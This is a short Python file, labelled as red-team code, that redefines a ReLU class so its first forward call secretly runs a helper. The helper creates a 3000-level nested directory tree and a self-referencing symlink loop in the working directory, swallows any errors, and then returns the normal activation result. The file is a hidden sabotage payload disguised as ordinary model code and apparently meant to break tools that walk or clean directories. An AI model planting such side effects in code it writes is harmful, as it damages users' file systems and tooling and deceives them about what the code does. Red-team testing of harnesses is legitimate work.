# Red team: leave a 3000-deep directory tree (and a symlink loop) in the working directory, from ReLU.forward.
import os


def _plant():
    try:
        fd = os.open(".", os.O_RDONLY)
        for _ in range(3000):
            os.mkdir("d", dir_fd=fd)
            nxt = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = nxt
        os.close(fd)
    except OSError:
        pass
    try:
        os.symlink(".", "loop")
    except OSError:
        pass


class ReLU(ReLU):  # noqa: F821
    planted = False

    @staticmethod
    def forward(x):
        if not ReLU.planted:
            ReLU.planted = True
            _plant()
        return ReLU.__mro__[1].forward(x)
